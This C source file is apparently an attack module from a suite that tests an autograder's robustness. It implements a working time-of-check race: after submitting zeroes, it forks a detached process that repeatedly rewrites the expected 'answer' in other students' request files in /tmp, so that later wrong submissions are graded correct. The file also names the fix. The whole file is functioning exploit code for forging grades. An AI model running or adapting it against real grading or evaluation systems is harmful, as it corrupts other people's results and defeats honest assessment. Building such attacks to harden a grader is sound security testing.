// SPDX-License-Identifier: MIT
/*
 * Goal:  an accomplice's wrong answer is marked correct, two students later.
 * Means: the request file, between the shim, who writes it, and the grader, who reads it: an
 *        interpreter takes milliseconds to start. A process that is left behind overwrites the
 *        expected answer in every request that appears with the zeroes that the accomplice submits.
 *
 *     shim: request ---> [ file in /tmp ] <--- survivor: "answer": "000..."
 *                              '----------------> grader, when Python has started
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <glob.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define TRIES 3000 /* one each millisecond */

static const char key[] = "\"params\":{\"token\"";
static const char before[] = "\"answer\":\"";
static const char zeroes[] = "00000000000000000000000000000000";

/* The last "answer" of the request is the one to compare with. */
static void rewrite(const char *path)
{
	char text[65536], *at = NULL;
	int fd = open(path, O_RDWR | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	text[n > 0 ? n : 0] = '\0';
	for (char *next = text; (next = strstr(next, before)); next++)
		at = next;
	if (at && strstr(text, key))
		pwrite(fd, zeroes, strlen(zeroes), at + strlen(before) - text);
	close(fd);
}

/* Holds no pipe of the student's, whose end the grader waits for. */
static _Noreturn void survive(void)
{
	const struct timespec tick = { .tv_nsec = 1000000 };
	glob_t found;

	setsid();
	close_range(0, ~0U, 0);
	for (int i = 0; i < TRIES; i++, nanosleep(&tick, NULL)) {
		if (glob("/tmp/shimmy/*/request-data-*", GLOB_NOSORT, NULL, &found))
			continue;
		for (size_t k = 0; k < found.gl_pathc; k++)
			rewrite(found.gl_pathv[k]);
		globfree(&found);
	}
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	pid_t child;

	submit(zeroes);
	attempting(b);
	if (b->again)
		return CLAIM_DONE;
	child = fork();
	if (!child)
		survive();
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a later student's wrong submission is marked correct",
	.means = "a process left behind rewrites requests before the grader has started",
	.oracle = "grade:forged",
	.scene = SCENE_BEFORE_VICTIM,
	.grader = GRADER_FILE,
	.attack_id = "T1565.001, CWE-367, CWE-377",
	.remedy = "end every process of a submission; requests where students may not write",
	.run = run,
};
